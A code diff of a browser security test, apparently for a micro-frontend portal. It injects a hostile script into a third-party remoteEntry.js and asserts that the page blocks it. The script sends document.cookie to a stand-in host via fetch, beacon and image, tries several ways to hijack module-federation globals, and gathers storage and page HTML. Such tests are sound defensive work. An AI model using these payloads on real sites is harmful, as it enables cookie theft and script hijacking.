@@ -35,6 +35,16 @@ const ATTACK = `(() => {
   fetch('https://altro.example/?' + document.cookie, { mode: 'no-cors' }).then(() => done.ran.push('fetch'), () => { done.stopped.fetch = 'refused'; });
   attempt('beacon', () => { navigator.sendBeacon('https://altro.example/', 'x'); });
   const image = new Image(); image.onload = () => done.ran.push('image'); image.onerror = () => { done.stopped.image = 'refused'; }; image.src = 'https://altro.example/x.png';
+  attempt('federation plugin', () => { __FEDERATION__.__GLOBAL_PLUGIN__.push({ name: 'x', loadEntry: () => { done.ran.push('federation plugin'); } }); });
+  attempt('federation plugin list', () => { __FEDERATION__.__GLOBAL_PLUGIN__ = [{ name: 'x', loadEntry: () => { done.ran.push('federation plugin list'); } }]; });
+  attempt('federation register', () => { window.__FEDERATION__ = window.__VMOK__ = { __GLOBAL_PLUGIN__: [], __INSTANCES__: [], __SHARE__: {} }; });
+  attempt('federation constructor', () => { __FEDERATION__.__DEBUG_CONSTRUCTOR__ = class { constructor() { done.ran.push('federation constructor'); } }; });
+  attempt('federation instances', () => { for (const instance of __FEDERATION__.__INSTANCES__) { done.ran.push('federation instances'); instance.registerPlugins([]); } });
+  attempt('federation share scopes', () => { if (Object.keys(__FEDERATION__.__SHARE__).length > 0) done.ran.push('federation share scopes'); });
+  attempt('federation loads', () => { for (const key of Object.keys(__GLOBAL_LOADING_REMOTE_ENTRY__)) done.ran.push('federation loads ' + key); __GLOBAL_LOADING_REMOTE_ENTRY__['x'] = Promise.reject(1).catch(() => 0); });
+  attempt('federation runtime', () => { 'use strict'; __bussolaFederation__.bundlerRuntime.init = () => { done.ran.push('federation runtime'); }; });
+  attempt('federation runtime replaced', () => { window.__bussolaFederation__ = { bundlerRuntime: { init: () => { done.ran.push('federation runtime replaced'); } } }; });
+  attempt('federation debug', () => { localStorage.setItem('FEDERATION_DEBUG', '1'); });
   done.seen = [document.cookie, JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage }), document.documentElement.outerHTML, Object.keys(window).map((key) => { try { return typeof window[key] === 'string' ? window[key] : ''; } catch { return ''; } }).join(' ')].join('\\n');
 })();`;
 
@@ -46,7 +56,10 @@ describe('a hostile portal', () => {
 
   it('runs no text as code, loads nothing that no list names, sends nothing to another site, finds no token', async () => {
     const { distDir } = product;
-    await reissue(distDir, 'thirdparty', { buildId: HOSTILE, edit: (file, text) => (file === 'remoteEntry.js' ? ATTACK + text : text) });
+    await reissue(distDir, 'thirdparty', {
+      buildId: HOSTILE, describe: (manifest) => ({ ...manifest, descriptor: { ...manifest.descriptor, budgets: { ...manifest.descriptor.budgets, entryKb: 10 } } }),
+      edit: (file, text) => (file === 'remoteEntry.js' ? ATTACK + text : text),
+    });
     await publishRelease(await registryOf(product), await readBuilt(distDir, 'thirdparty', HOSTILE), { channel: 'stable' });
 
     const { page, context } = await staffVisit(browser, product.url, 'hostile');
@@ -73,8 +86,12 @@ describe('a hostile portal', () => {
     const told = await toldOf(product.url);
     assert.deepEqual(EXPECTED.filter((one) => !told.includes(one)), [], told.join(', '));
     assert.doesNotMatch(told.join(), /x\.js|x\.png|clienti|__Host/, 'no address of a page or of a file, no cookie');
-    // The rest of the page is as it was.
+    // The rest of the page is as it was, and no load of another portal passed through what the hostile one left in federation's registers.
     await goInPage(page, '/admin/clienti');
+    assert.equal(await shown(page), 'ready');
+    assert.deepEqual(await page.evaluate(() => (window as unknown as { __hostile: { ran: string[] } }).__hostile.ran), []);
+    // Nor does what it left in the browser's storage reach the next page.
+    await page.goto('/admin/clienti');
     assert.equal(await shown(page), 'ready');
     takeViolations();
     await context.close();
